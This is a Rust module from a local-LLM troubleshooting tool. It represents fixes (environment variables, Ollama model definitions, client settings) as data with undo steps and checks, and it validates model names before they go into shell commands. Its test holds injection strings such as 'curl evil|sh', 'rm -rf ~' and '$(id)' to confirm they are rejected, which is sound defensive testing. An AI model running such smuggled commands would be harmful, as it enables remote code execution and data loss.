//! Fixes as data: what to change, how to undo it, how to see that it holds. Nothing here is carried out; what may be
//! applied for the person, on their consent, is only what adds something new beside what is there.

use crate::catalog::machine::Os;
use crate::observe::{ClientKind, RuntimeKind};
use serde::Serialize;

/// What a fix risks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[serde(rename_all = "kebab-case")]
pub enum Risk {
    /// Nothing: what is there stays as it is.
    None,
    /// The runtime is restarted and loads its models anew.
    Restart,
    /// The model takes more memory; it was computed that it fits.
    MoreMemory,
    /// The model takes more memory; whether it fits could not be computed, or it does not.
    MoreMemoryUnsure,
    /// Answers may become a little less exact.
    Quality,
    /// The system may run short of memory if the number is too high.
    SystemMemory,
    /// A mistake is felt for longer: a client waits longer before it gives up.
    LongerWait,
    /// The machine has to be restarted.
    Reboot,
    /// It is done in the firmware's own menu or on the open machine.
    Hardware,
    /// More power, heat and noise.
    Heat,
}

/// Something that only a person can do; the sentence is in the message files.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[serde(rename_all = "kebab-case")]
pub enum ByHand {
    /// Restart the runtime.
    RestartRuntime,
    /// Load the model anew with the longer context.
    ReloadModel,
    /// Update the runtime.
    UpdateRuntime,
    /// Update or reinstall the graphics driver, and restart the machine.
    UpdateDriver,
    /// Give the container access to the GPU.
    PassGpuToContainer,
    /// Join the groups that may use the GPU.
    JoinGpuGroups,
    /// Shorten the prompt, or let the agent compact sooner.
    ShortenPrompt,
    /// Send the changing parts of the prompt last.
    StablePrefix,
    /// Use one context length in all clients.
    OneContextLength,
    /// Point the client at the runtime's own interface.
    NativeEndpoint,
    /// Set the driver to "Prefer No Sysmem Fallback" for the runtime.
    NoSysmemFallback,
    /// Change what the firmware sets aside for graphics.
    FirmwareCarveOut,
    /// Raise the share in AMD's own program.
    VariableGraphicsMemory,
    /// Close programs that hold memory.
    ClosePrograms,
    /// Stop the second one.
    StopSecondRuntime,
    /// Use the address of the host instead of the container's own.
    HostAddress,
    /// Plug it in, and choose the mode for performance.
    PlugIn,
    /// Let it cool: clean it, raise it, move it.
    LetItCool,
    /// Put the modules into the slots that the manual names, and switch their profile on.
    PairModules,
    /// Put the card into the slot with most lanes.
    MoveCard,
    /// Fetch the model again, so that its own template comes with it.
    FetchAgain,
    /// Run fewer agents at once.
    FewerAgents,
    /// Choose the new definition in the agent or client: the old one goes on as it was.
    ChooseDefinition,
    /// An earlier finding's change does this too.
    AsAbove,
    /// The model's name holds what must not stand in a command, so none is shown.
    OddName,
    /// macOS forgets such a setting when it restarts.
    LostAtRestart,
    /// The tool that the command needs comes in a package of its own.
    AmdTtm,
    /// Fetch a file of the model in fewer bits, as the finding names it.
    FetchSmaller,
    /// Take a smaller model: no file of this one fits.
    SmallerModel,
    /// Tell the client the length that the model really takes.
    CountOnNative,
}

/// One step.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[serde(tag = "kind", rename_all = "kebab-case", rename_all_fields = "snake_case")]
pub enum Step {
    /// A command for a terminal.
    Command {
        /// Under which system. Missing: any.
        os: Option<Os>,
        /// True where it asks for an administrator's password.
        admin: bool,
        /// The command.
        line: String,
    },
    /// A variable of a runtime's environment.
    Environment {
        /// Under which system.
        os: Os,
        /// Whose.
        runtime: RuntimeKind,
        /// Its name.
        name: String,
        /// Its value now. Missing: not set, or not known.
        before: Option<String>,
        /// Its value afterwards. Missing: not set.
        after: Option<String>,
        /// True where it asks for an administrator's password.
        admin: bool,
        /// What to type or paste.
        line: String,
    },
    /// A new model definition, made through Ollama's own interface. The weights are shared and nothing is overwritten.
    OllamaCreate {
        /// What is sent to `/api/create`.
        body: OllamaCreate,
        /// The same as a model definition, for those who prefer a file.
        modelfile: String,
        /// What the definition in use sets, in the same form.
        before: Option<String>,
    },
    /// A model definition that is removed again through Ollama's own interface.
    OllamaDelete {
        /// Its name.
        model: String,
    },
    /// A new file beside what is there.
    NewFile {
        /// Its name, without a folder.
        name: String,
        /// What is in it.
        content: String,
    },
    /// An argument of a server's command line.
    Argument {
        /// Whose.
        runtime: RuntimeKind,
        /// As it is. Missing: not given.
        before: Option<String>,
        /// As it should be. Missing: leave it away.
        after: Option<String>,
    },
    /// A line of a client's own settings. It is shown and never written for the person.
    ClientSetting {
        /// Whose.
        client: ClientKind,
        /// Where in its settings, as a path.
        key: String,
        /// The value now.
        before: Option<String>,
        /// The value afterwards.
        after: String,
    },
    /// Something for hands.
    ByHand {
        /// What.
        what: ByHand,
    },
}

impl Step {
    /// True where it may be applied for the person, on their consent: it adds something new and overwrites nothing.
    #[must_use]
    pub fn can_be_applied(&self) -> bool {
        matches!(self, Self::OllamaCreate { .. } | Self::NewFile { .. })
    }

    /// What to paste, where there is something.
    #[must_use]
    pub fn text(&self) -> Option<String> {
        match self {
            Self::Command { line, .. } | Self::Environment { line, .. } => Some(line.clone()),
            Self::OllamaCreate { modelfile, .. } => Some(modelfile.clone()),
            Self::OllamaDelete { model } => Some(format!("ollama rm {model}")),
            Self::NewFile { content, .. } => Some(content.clone()),
            Self::Argument { before, after, .. } => after.clone().or_else(|| before.clone()),
            Self::ClientSetting { key, after, .. } => Some(format!("{key}: {after}")),
            Self::ByHand { .. } => None,
        }
    }
}

/// What is sent to Ollama's `/api/create` to make a definition that shares the weights of another.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
pub struct OllamaCreate {
    /// The new definition's name.
    pub model: String,
    /// The definition it is made from.
    pub from: String,
    /// What it sets.
    pub parameters: OllamaParameters,
}

impl OllamaCreate {
    /// The command that makes the same from a file with the definition.
    #[must_use]
    pub fn command(&self) -> String {
        format!("ollama create {} -f Modelfile", self.model)
    }
}

/// Parameters of a model definition.
#[derive(Debug, Clone, PartialEq, Default, Serialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
pub struct OllamaParameters {
    /// Context length, tokens.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub num_ctx: Option<u32>,
    /// Tokens computed at once in prefill.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub num_batch: Option<u32>,
    /// Tokens drafted ahead.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub draft_num_predict: Option<u32>,
}

impl OllamaParameters {
    /// A definition that sets the context length and nothing else.
    #[must_use]
    pub fn context(tokens: u32) -> Self {
        Self { num_ctx: Some(tokens), ..Self::default() }
    }

    /// As lines of a model definition.
    fn lines(&self) -> String {
        let named =
            [("num_ctx", self.num_ctx), ("num_batch", self.num_batch), ("draft_num_predict", self.draft_num_predict)];
        let set = named.into_iter().filter_map(|(name, value)| Some(format!("\nPARAMETER {name} {}", value?)));
        set.collect()
    }

    /// What a definition's name gets appended.
    fn suffix(&self) -> String {
        let named = [("", self.num_ctx), ("batch-", self.num_batch), ("draft-", self.draft_num_predict)];
        let set = named.into_iter().filter_map(|(name, value)| Some(format!("-{name}{}", value?)));
        set.collect()
    }
}

/// How to see that a fix holds.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[serde(tag = "kind", rename_all = "kebab-case", rename_all_fields = "snake_case")]
pub enum ReadBack {
    /// Ollama shows the new definition (`/api/show`) with this `num_ctx`.
    Definition {
        /// Its name.
        name: String,
        /// What it must say.
        num_ctx: u32,
    },
    /// The loaded model shows this context length for one request.
    LoadedContext {
        /// Which runtime.
        runtime: RuntimeKind,
        /// The model's name there.
        name: String,
        /// What it must say.
        context: u32,
    },
    /// Look again: the rule must find nothing.
    Rule,
}

/// A fix: what to do, what it risks, how to undo it, how to see that it holds.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
pub struct FixPlan {
    /// What to do, in order. Steps that name a system are for that system alone.
    pub steps: Vec<Step>,
    /// How to undo it, in order.
    pub undo: Vec<Step>,
    /// What it risks.
    pub risk: Risk,
    /// How to see that it holds.
    pub check: ReadBack,
}

impl FixPlan {
    /// The steps that may be applied for the person, on their consent.
    pub fn applicable(&self) -> impl Iterator<Item = &Step> {
        self.steps.iter().filter(|step| step.can_be_applied())
    }
}

/// A plan in the making.
#[derive(Debug, Clone)]
pub(super) struct Plan {
    steps: Vec<Step>,
    undo: Vec<Step>,
    risk: Risk,
    check: ReadBack,
}

impl Plan {
    pub(super) fn new(risk: Risk) -> Self {
        Self { steps: Vec::new(), undo: Vec::new(), risk, check: ReadBack::Rule }
    }

    pub(super) fn checked_by(mut self, check: ReadBack) -> Self {
        self.check = check;
        self
    }

    pub(super) fn by_hand(mut self, what: ByHand) -> Self {
        self.steps.push(Step::ByHand { what });
        self
    }

    pub(super) fn command(
        mut self,
        os: Option<Os>,
        admin: bool,
        line: impl Into<String>,
        undo: Option<String>,
    ) -> Self {
        self.steps.push(Step::Command { os, admin, line: line.into() });
        self.undo.extend(undo.map(|line| Step::Command { os, admin, line }));
        self
    }

    /// A new definition with another context length, made from `from`.
    pub(super) fn definition(self, from: &str, num_ctx: u32, before: Option<u32>) -> Self {
        self.defined(from, OllamaParameters::context(num_ctx), before.map(OllamaParameters::context).as_ref())
    }

    /// A new definition that sets `parameters`, made from `from`, which sets `before`. A name that must not stand in a
    /// command gets none: names come from runtimes and from files of strangers, and people paste what is shown here.
    pub(super) fn defined(
        mut self,
        from: &str,
        parameters: OllamaParameters,
        before: Option<&OllamaParameters>,
    ) -> Self {
        if !is_plain_name(from) {
            return self.by_hand(ByHand::OddName);
        }
        let model = new_name(from, &parameters);
        let modelfile = |it: &OllamaParameters| format!("FROM {from}{}", it.lines());
        if let Some(num_ctx) = parameters.num_ctx {
            self.check = ReadBack::Definition { name: model.clone(), num_ctx };
        }
        self.undo.push(Step::OllamaDelete { model: model.clone() });
        self.steps.push(Step::OllamaCreate {
            modelfile: modelfile(&parameters),
            before: before.map(modelfile),
            body: OllamaCreate { model, from: from.to_owned(), parameters },
        });
        self.by_hand(ByHand::ChooseDefinition)
    }

    /// A command that names a model. A name that must not stand in one gets none.
    pub(super) fn naming(self, name: &str, line: impl Fn(&str) -> String, undo: Option<String>) -> Self {
        if is_plain_name(name) { self.command(None, false, line(name), undo) } else { self.by_hand(ByHand::OddName) }
    }

    pub(super) fn argument(mut self, runtime: RuntimeKind, before: Option<String>, after: Option<String>) -> Self {
        self.steps.push(Step::Argument { runtime, before: before.clone(), after: after.clone() });
        self.undo.push(Step::Argument { runtime, before: after, after: before });
        self
    }

    pub(super) fn client(mut self, client: ClientKind, key: &str, before: Option<String>, after: String) -> Self {
        self.steps.push(Step::ClientSetting {
            client,
            key: key.to_owned(),
            before: before.clone(),
            after: after.clone(),
        });
        if let Some(old) = before {
            self.undo.push(Step::ClientSetting { client, key: key.to_owned(), before: Some(after), after: old });
        }
        self
    }

    /// A variable of Ollama's environment, as it is set under this system, or under each where that is not known.
    /// Without `after` the variable goes away.
    pub(super) fn ollama(mut self, os: Option<Os>, name: &str, before: Option<&str>, after: Option<&str>) -> Self {
        // Misspelt names come from what was seen.
        if !is_plain_setting(name) {
            return self.by_hand(ByHand::OddName);
        }
        let systems = os.map_or_else(|| vec![Os::Macos, Os::Windows, Os::Linux], |os| vec![os]);
        for os in systems {
            self.steps.push(environment(os, name, before, after));
            // What was taken away because nobody reads it need not come back.
            if before.is_some() || after.is_some() {
                self.undo.push(environment(os, name, after, before));
            }
        }
        let this = if os == Some(Os::Macos) && after.is_some() { self.by_hand(ByHand::LostAtRestart) } else { self };
        this.by_hand(ByHand::RestartRuntime)
    }

    pub(super) fn done(self) -> FixPlan {
        FixPlan { steps: self.steps, undo: self.undo, risk: self.risk, check: self.check }
    }
}

fn environment(os: Os, name: &str, before: Option<&str>, after: Option<&str>) -> Step {
    let line = match (os, after) {
        (Os::Macos, Some(value)) => format!("launchctl setenv {name} {value}"),
        (Os::Macos, None) => format!("launchctl unsetenv {name}"),
        (Os::Windows, Some(value)) => format!("setx {name} {value}"),
        (Os::Windows, None) => format!("reg delete HKCU\\Environment /v {name} /f"),
        (Os::Linux, Some(value)) => {
            format!("sudo systemctl edit ollama.service\n[Service]\nEnvironment=\"{name}={value}\"")
        }
        (Os::Linux, None) => format!("sudo systemctl edit ollama.service\n[Service]\nUnsetEnvironment={name}"),
    };
    let admin = os == Os::Linux;
    Step::Environment {
        os,
        runtime: RuntimeKind::Ollama,
        name: name.to_owned(),
        before: before.map(str::to_owned),
        after: after.map(str::to_owned),
        admin,
        line,
    }
}

/// The name of a definition made from another: what it was made from and what it sets, so that nothing there is hit.
pub(super) fn new_name(from: &str, parameters: &OllamaParameters) -> String {
    format!("{}{}", from.replace(':', "-"), parameters.suffix())
}

/// Longest name of a model that stands in a command, bytes.
const LONGEST_NAME: usize = 80;

/// True where a model's name may stand in a command or a definition: letters, digits and `. _ - : /`, beginning with a
/// letter or digit, without `..`. Everything else could mean something to a shell.
#[must_use]
pub fn is_plain_name(name: &str) -> bool {
    let good = |c: char| c.is_ascii_alphanumeric() || "._-:/".contains(c);
    !name.is_empty()
        && name.len() <= LONGEST_NAME
        && name.chars().all(good)
        && name.starts_with(|c: char| c.is_ascii_alphanumeric())
        && !name.contains("..")
}

/// True where a name is one of a variable.
fn is_plain_setting(name: &str) -> bool {
    let good = |b: u8| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_';
    !name.is_empty() && name.len() <= LONGEST_NAME && name.bytes().all(good)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_that_means_something_to_a_shell_stands_in_no_command() {
        let bad = ["x; curl evil|sh #\nrm -rf ~\n:v-128k", "$(id)", "a b", "-rf", "../x", "a\u{1b}[2J", "a'b", "é", ""];
        for name in bad {
            for plan in [
                Plan::new(Risk::None).definition(name, 8192, None),
                Plan::new(Risk::None).naming(name, |it| format!("lms load {it}"), None),
                Plan::new(Risk::None).ollama(Some(Os::Linux), name, None, None),
            ] {
                let plan = plan.done();
                assert!(plan.steps.iter().chain(&plan.undo).all(|it| it.text().is_none()), "{name:?}: {plan:?}");
                assert_eq!(plan.steps, [Step::ByHand { what: ByHand::OddName }]);
            }
        }
        assert!(is_plain_name("hf.co/unsloth/Qwen3-30B-A3B-GGUF:Q4_K_M") && is_plain_name("qwen3-coder:v-128k"));
    }

    #[test]
    fn what_nobody_reads_is_taken_away_for_good() {
        let plan = Plan::new(Risk::Restart).ollama(Some(Os::Macos), "OLLAMA_FLASH_ATTN", None, None).done();
        assert!(plan.undo.is_empty() && plan.steps[0].text().is_some_and(|it| it.contains("unsetenv")));
        let plan = Plan::new(Risk::Restart).ollama(Some(Os::Macos), "OLLAMA_KEEP_ALIVE", None, Some("24h")).done();
        assert!(plan.steps.contains(&Step::ByHand { what: ByHand::LostAtRestart }));
    }
}
